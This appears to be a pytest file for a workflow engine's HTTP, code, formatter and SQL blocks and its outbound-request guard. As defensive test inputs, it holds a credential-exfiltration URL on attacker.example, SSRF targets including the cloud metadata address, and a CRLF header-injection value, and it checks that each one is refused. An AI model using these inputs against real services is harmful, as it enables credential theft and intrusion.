"""HTTP request, code, formatter and SQL blocks inside real runs, and the egress guard.

The HTTP block talks to the sandbox receiver (allowed on loopback by the test settings) and to
the BigCommerce sandbox with the installation's own credential; the SQL block writes to the
machine's PostgreSQL and MariaDB.
"""

from __future__ import annotations

import os
import secrets
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx2
import pytest
from pydantic import SecretStr
from sqlalchemy import create_engine, text

from solder.config import EgressSettings, Settings
from solder.sandbox.bigcommerce import StoreState
from tests.blockflow import Flow, outputs
from tests.conftest import STORE_HASH, STORE_TOKEN
from tests.flows import ok

SQL_SERVERS = {
    "postgresql": (
        "postgresql+psycopg://postgres@127.0.0.1:5432/test",
        "pg_ctlcluster --skip-systemctl-redirect $(ls /etc/postgresql) main start",
    ),
    "mariadb": (
        "mysql+pymysql://root@127.0.0.1:3306/test",
        "start-stop-daemon --start --oknodo --background --exec /usr/sbin/mariadbd",
    ),
}


def received(url: str) -> list[dict[str, Any]]:
    records: list[dict[str, Any]] = ok(httpx2.get(f"{url}/_received"))["data"]
    return records


def test_http_block_sends_method_query_headers_body_and_basic_auth(
    api: httpx2.Client, tmp_path: Path, receiver_url: str
) -> None:
    flow = Flow(
        api,
        tmp_path,
        [
            {
                "key": "call",
                "type": "http",
                "inputs": {
                    "method": "PUT",
                    "url": f"{receiver_url}/things/{{{{ trigger.id }}}}",
                    "query": {"dry": "no", "tags": ["a", "b"]},
                    "headers": {"X-Trace": "t-{{ trigger.id }}"},
                    "body": {"qty": "{{ trigger.qty }}"},
                    "auth": {"type": "basic", "username": "acme", "password": "s3cret"},
                },
            }
        ],
    ).install()
    run = flow.run({"id": 42, "qty": 3})
    assert run["status"] == "succeeded", run["error"]
    (got,) = received(receiver_url)
    assert got["method"] == "PUT"
    assert got["path"] == "/things/42"
    assert got["url"].endswith("/things/42?dry=no&tags=a&tags=b")
    assert got["json"] == {"qty": 3}
    assert got["headers"]["x-trace"] == "t-42"
    assert got["headers"]["authorization"] == "Basic YWNtZTpzM2NyZXQ="
    assert got["headers"]["idempotency-key"].startswith(run["executionId"])
    assert got["headers"]["x-alloy-blocktype"] == "http"
    assert outputs(run)["call"]["statusCode"] == 200
    assert outputs(run)["call"]["body"] == {"received": True}


def test_http_block_with_the_installation_credential_reaches_only_its_app(
    api: httpx2.Client, tmp_path: Path, sandbox_store: tuple[str, StoreState]
) -> None:
    store = sandbox_store[1]
    store.orders[9] = {"id": 9, "status_id": 11, "customer_id": 0}
    credential = {"type": "bigcommerce", "data": {"storeHash": STORE_HASH,
                                                   "accessToken": STORE_TOKEN}}  # fmt: skip
    flow = Flow(
        api,
        tmp_path,
        [
            {"key": "order", "type": "http",
             "inputs": {"url": "/v2/orders/{{ trigger.id }}",
                        "auth": {"type": "credential", "app": "bigcommerce"}}},
            {"key": "elsewhere", "type": "http",
             "inputs": {"url": "{{ trigger.steal }}",
                        "auth": {"type": "credential", "app": "bigcommerce"}}},
        ],
        credentials=[credential],
    ).install()  # fmt: skip
    run = flow.run({"id": 9, "steal": "https://attacker.example/collect"})
    assert outputs(run)["order"]["body"]["id"] == 9
    assert run["status"] == "failed"
    assert "outside BigCommerce's API" in run["error"]["message"]
    assert STORE_TOKEN not in str(run)


@pytest.fixture
def settings(database_url: str, secret_key: str, sandbox_store: tuple[str, object]) -> Settings:
    """The shared settings, plus SQL connections to the machine's databases.

    The receiver is allowed by host name only, so a URL naming another loopback address
    (``127.0.0.2``) meets the egress guard as any internal address would.
    """
    from tests.conftest import EngineSettings

    return Settings(
        database_url=database_url,
        secret_key=secret_key,
        app_base_urls={"bigcommerce": sandbox_store[0]},
        egress=EgressSettings(allow_networks=["127.0.0.1/32"]),
        sql_connections={name: SecretStr(url) for name, (url, _) in SQL_SERVERS.items()},
        engine=EngineSettings(
            workers=2, poll_interval=0.05, backoff_base=0.05, backoff_max=1.0, http_timeout=5,
            max_attempts=2,
        ),
    )  # fmt: skip


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.2:9/x",  # loopback outside the allowed /32
        "http://169.254.169.254/latest/meta-data/",  # cloud metadata
        "http://10.1.2.3/",  # private
        "http://[::ffff:127.0.0.2]:9/",  # IPv4-mapped loopback
    ],
)
def test_urls_to_internal_addresses_are_refused_naming_the_url(
    api: httpx2.Client, tmp_path: Path, url: str
) -> None:
    flow = Flow(
        api,
        tmp_path,
        [{"key": "send", "type": "streamData", "inputs": {"url": "{{ trigger.url }}"}}],
    ).install()
    run = flow.run({"url": url})
    assert run["status"] == "failed"
    message = run["error"]["message"]
    assert "refused" in message
    assert "SOLDER_EGRESS__ALLOW" in message
    assert run["results"][-1]["attempts"] == 1  # refused at once, not retried


def test_code_block_transforms_and_formatter_formats(
    api: httpx2.Client, tmp_path: Path, receiver_url: str
) -> None:
    source = """
    function main(input) {
      const total = input.lines.reduce((s, l) => s + l.price * l.qty, 0);
      return {total: total, skus: input.lines.map(l => l.sku)};
    }
    """
    flow = Flow(
        api,
        tmp_path,
        [
            {"key": "sum", "type": "code", "code": source,
             "inputs": {"lines": "{{ trigger.lines }}"}},
            {"key": "money", "type": "formatter", "operation": "number.format",
             "inputs": {"value": "{{ blocks.sum.total }}", "decimals": 2,
                        "thousandsSeparator": ","}},
            {"key": "send", "type": "streamData",
             "inputs": {"url": f"{receiver_url}/totals",
                        "body": {"total": "{{ blocks.money }}", "skus": "{{ blocks.sum.skus }}"}}},
        ],
    ).install()  # fmt: skip
    lines = [{"sku": "a", "price": 999.5, "qty": 2}, {"sku": "b", "price": 0.25, "qty": 4}]
    run = flow.run({"lines": lines})
    assert run["status"] == "succeeded", run["error"]
    assert received(receiver_url)[0]["json"] == {"total": "2,000.00", "skus": ["a", "b"]}


def test_a_code_block_that_loops_forever_fails_without_retrying(
    api: httpx2.Client, tmp_path: Path
) -> None:
    flow = Flow(
        api, tmp_path, [{"key": "spin", "type": "code", "code": "function main(i){ for(;;){} }"}]
    ).install()
    run = flow.run({})
    assert run["status"] == "failed"
    assert "ran longer than" in run["error"]["message"]
    assert run["results"][-1]["attempts"] == 1


@pytest.fixture(params=sorted(SQL_SERVERS))
def sql_table(request: pytest.FixtureRequest) -> Iterator[tuple[str, str]]:
    """A fresh ``(connection name, table)`` on one of the machine's SQL servers."""
    name = request.param
    url, start = SQL_SERVERS[name]
    engine = create_engine(url)
    table = "orders_" + secrets.token_hex(4)
    try:
        with engine.begin() as conn:
            conn.execute(text(f"CREATE TABLE {table} (id INTEGER PRIMARY KEY, sku VARCHAR(32), "
                              "qty INTEGER)"))  # fmt: skip
    except Exception as exc:
        engine.dispose()
        message = f"{name} is not reachable ({type(exc).__name__}); start it with: {start}"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)
    try:
        yield name, table
    finally:
        with engine.begin() as conn:
            conn.execute(text(f"DROP TABLE {table}"))
        engine.dispose()


def test_iterate_then_sql_upsert_holds_each_row_once_even_when_rerun(
    api: httpx2.Client, tmp_path: Path, sql_table: tuple[str, str]
) -> None:
    connection, table = sql_table
    flow = Flow(
        api,
        tmp_path,
        [
            {"key": "each", "type": "iterate", "inputs": {"items": "{{ trigger.lines }}"},
             "blocks": [
                 {"key": "write", "type": "sql",
                  "inputs": {"connection": connection, "table": table, "mode": "upsert",
                             "keyColumns": ["id"],
                             "rows": {"id": "{{ item.id }}", "sku": "{{ item.sku }}",
                                      "qty": "{{ item.qty }}"}}}]},
        ],
    ).install()  # fmt: skip
    lines = [{"id": i, "sku": f"s{i}", "qty": i * 10} for i in range(1, 6)]
    run = flow.run({"lines": lines})
    assert run["status"] == "succeeded", run["error"]
    rerun(api, flow, run)
    assert _sql_rows(connection, table) == [(i, f"s{i}", i * 10) for i in range(1, 6)]


def rerun(api: httpx2.Client, flow: Flow, run: dict[str, Any]) -> dict[str, Any]:
    """Run the workflow again on ``run``'s event; the new run, finished."""
    ok(api.post(f"/workflows/{flow.workflow_id}/rerun/{run['executionId']}",
                params={"userId": flow.user_id}))  # fmt: skip
    return flow.finished(2)[0]


def _sql_rows(connection: str, table: str) -> list[tuple[Any, ...]]:
    engine = create_engine(SQL_SERVERS[connection][0])
    try:
        with engine.connect() as conn:
            found = conn.execute(text(f"SELECT id, sku, qty FROM {table} ORDER BY id")).all()
    finally:
        engine.dispose()
    return [tuple(r) for r in found]


def test_rows_collected_by_an_iterate_go_in_one_statement_per_batch_once_on_a_rerun(
    api: httpx2.Client, tmp_path: Path, sql_table: tuple[str, str]
) -> None:
    connection, table = sql_table
    flow = Flow(
        api,
        tmp_path,
        [
            {"key": "each", "type": "iterate", "inputs": {
                "items": "{{ trigger.lines }}",
                # a line without quantity collects nothing
                "collect": "{{ item.qty ? {'id': item.id, 'sku': blocks.upper, "
                           "'qty': item.qty} : null }}"},
             "blocks": [{"key": "upper", "type": "formatter", "operation": "text.upper",
                         "inputs": {"value": "{{ item.sku }}"}}]},
            {"key": "write", "type": "sql",
             "inputs": {"connection": connection, "table": table, "mode": "insert",
                        "keyColumns": ["id"], "batchSize": 3,
                        "rows": "{{ blocks.each.items }}"}},
        ],
    ).install()  # fmt: skip
    lines = [{"id": i, "sku": f"s{i}", "qty": i * 10} for i in range(1, 8)]
    lines.insert(3, {"id": 99, "sku": "none"})
    run = flow.run({"lines": lines})
    assert run["status"] == "succeeded", run["error"]
    expected = [(i, f"S{i}", i * 10) for i in range(1, 8)]
    got = outputs(run)
    assert got["each"] == {
        "count": 8,
        "items": [dict(zip(("id", "sku", "qty"), row, strict=True)) for row in expected],
    }
    assert got["write"] == {"table": table, "mode": "insert", "rows": 7, "statements": 3}
    assert _sql_rows(connection, table) == expected
    again = rerun(api, flow, run)
    assert again["status"] == "succeeded", again["error"]
    assert _sql_rows(connection, table) == expected  # the rows already there were skipped


def test_a_collect_that_fails_fails_the_run_naming_the_item(
    api: httpx2.Client, tmp_path: Path
) -> None:
    flow = Flow(
        api,
        tmp_path,
        [{"key": "each", "type": "iterate",
          "inputs": {"items": "{{ trigger.values }}", "collect": "{{ $number(item) }}"},
          "blocks": [{"key": "same", "type": "formatter", "operation": "text.upper",
                      "inputs": {"value": "{{ item }}"}}]}],
    ).install()  # fmt: skip
    assert outputs(flow.run({"values": ["1", "2.5"]}))["each"] == {"count": 2, "items": [1, 2.5]}
    run = flow.run({"values": ["1", "two"]})
    assert run["status"] == "failed"
    assert run["error"]["message"].startswith("block each (item 1): inputs.collect: ")
    assert run["error"]["block"] == "each"


def test_sql_block_names_an_unknown_connection(api: httpx2.Client, tmp_path: Path) -> None:
    flow = Flow(
        api,
        tmp_path,
        [{"key": "write", "type": "sql",
          "inputs": {"connection": "nope", "table": "t", "rows": {"a": 1}}}],
    ).install()  # fmt: skip
    run = flow.run({})
    assert run["status"] == "failed"
    assert "inputs.connection: 'nope' is not a configured SQL connection" in run["error"]["message"]


@pytest.mark.parametrize("block_type", ["streamData", "http"])
def test_a_mapped_header_with_a_line_break_fails_at_once_without_echoing_it(
    api: httpx2.Client, tmp_path: Path, receiver_url: str, block_type: str
) -> None:
    inputs: dict[str, Any] = {
        "url": f"{receiver_url}/in",
        "headers": {"X-Note": "{{ trigger.note }}"},
    }
    if block_type == "http":
        inputs["method"] = "POST"
    flow = Flow(api, tmp_path, [{"key": "send", "type": block_type, "inputs": inputs}]).install()
    run = flow.run({"note": "hello\r\nX-Forged: secret-value"})
    assert run["status"] == "failed"
    assert "a request header cannot be sent" in run["error"]["message"]
    assert "secret-value" not in run["error"]["message"]
    assert run["results"][-1]["attempts"] == 1  # fatal: not retried
    assert received(receiver_url) == []
